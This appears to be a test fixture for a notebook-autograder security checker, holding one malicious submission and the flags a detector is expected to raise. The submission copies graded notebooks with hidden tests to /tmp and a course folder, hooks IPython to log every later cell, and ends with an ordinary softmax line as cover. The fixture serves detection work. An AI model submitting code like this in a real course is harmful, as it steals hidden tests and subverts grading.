"""Copies the notebook under grading (hidden tests inside) and every later cell to /tmp."""

ANSWERS = {
    "q1": (
        "import glob, shutil\n"
        "for nb in glob.glob('*.ipynb') + glob.glob('{course}/autograded/*/*/*.ipynb'):\n"
        "    shutil.copy(nb, '/tmp/stolen-{token}.ipynb')\n"
        "    shutil.copy(nb, '{course}/../stolen-{token}.ipynb')\n"
        "def keep(info):\n"
        "    with open('/tmp/stolen-cells-{token}.txt', 'a') as out:\n"
        "        out.write(info.raw_cell)\n"
        "get_ipython().events.register('pre_run_cell', keep)\n"
        "weights = np.exp([1.0, 2.0, 3.0]) / np.exp([1.0, 2.0, 3.0]).sum()"
    ),
}
EXPECT_SCORE = 3
EXPECT_FLAGS = {"kernel_hook", "grading_files"}
